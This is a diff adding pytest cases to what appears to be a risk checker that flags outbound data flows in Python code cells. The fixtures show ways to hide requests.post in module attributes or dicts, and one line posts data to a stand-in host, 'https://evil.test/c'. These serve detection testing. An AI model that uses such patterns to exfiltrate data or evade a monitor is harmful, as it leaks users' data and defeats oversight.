@@ -106,3 +106,47 @@ def test_a_sender_a_sibling_from_a_workspace_modules_maker_hands_back_sends(case
     earlier = (RQ, *WORKSPACE[case], "add(len)", KEEP)
     assert outbound_flows("python", {"code": "print(get(0)(t))"}, _log(tmp_path, *earlier)) == []
     assert _policy("print(get(0)(t))", tmp_path, *earlier) == (Risk.REVERSIBLE, [])
+
+
+FILLS: dict[str, tuple[str, str]] = {
+    "a module's attribute": ("import json\n\ndef fill():\n    json.s = requests.post", "json.s"),
+    "a module imported under another name": ("import json as mod\n\ndef fill():\n    mod.s = requests.post", "mod.s"),
+    "a plain dict": ("D = {}\n\ndef fill():\n    D['p'] = requests.post", "D['p']"),
+}
+"""Each defines a ``fill()`` that only stores ``requests.post`` where a later cell calls it."""
+
+
+@pytest.mark.parametrize("case", list(FILLS))
+def test_a_fill_that_only_stores_a_sender_is_quiet_until_the_send(case: str, tmp_path: Path) -> None:
+    (tmp_path / "area.py").write_text("def area(w, h):\n    return w * h\n")
+    definition, through = FILLS[case]
+    earlier = (RQ, definition, KEEP)
+    assert outbound_flows("python", {"code": "fill()"}, _log(tmp_path, *earlier)) == []
+    assert _policy("fill()", tmp_path, *earlier) == (Risk.REVERSIBLE, [])
+    cell = f"{through}('{A}', data=t)"
+    earlier = (RQ, definition, "fill()", KEEP)
+    assert EVIL in [(f.destination, f.direct_file) for f in outbound_flows("python", {"code": cell},
+                                                                              _log(tmp_path, *earlier))]
+    assert _policy(cell, tmp_path, *earlier)[0] == Risk.CONSEQUENTIAL
+
+
+def test_a_fill_that_may_run_code_of_the_runs_when_it_stores_still_asks(tmp_path: Path) -> None:
+    (tmp_path / "helpers.py").write_text("def area(w, h):\n    return w * h\n")
+    for earlier in [
+            (RQ, "import helpers\n\ndef fill():\n    helpers.s = requests.post"),  # the workspace's module
+            (RQ, "import json\n\ndef fill():\n    json.s = requests.post\n    json.s('https://x.test')"),
+            (RQ, "import json\njson.__class__ = type('M', (type(json),), {})",
+             "def fill():\n    json.s = requests.post"),
+            (RQ, "import json\n\ndef fill():\n    json.s = requests.post", "json = {}")]:
+        assert _policy("fill()", tmp_path, *earlier, KEEP)[0] == Risk.CONSEQUENTIAL, earlier
+
+
+def test_a_keeper_calling_what_it_is_handed_in_a_key_asks() -> None:
+    for definition in ["H = {}\n\ndef register(f):\n    H[f('https://evil.test/c', data=t)] = 1",
+                       "H = {}\n\ndef register(f):\n    H[f] = f()"]:
+        earlier = (RQ, KEEP, definition)
+        assert _flows("register(requests.post)", *earlier) != [], definition
+        assert _policy("register(requests.post)", None, *earlier)[0] == Risk.CONSEQUENTIAL, definition
+    # keyed by a name or a literal, it only keeps it
+    earlier = (RQ, KEEP, "H = {}\n\ndef register(k, f):\n    H[k] = f")
+    assert _policy("register('p', requests.post)", None, *earlier) == (Risk.REVERSIBLE, [])
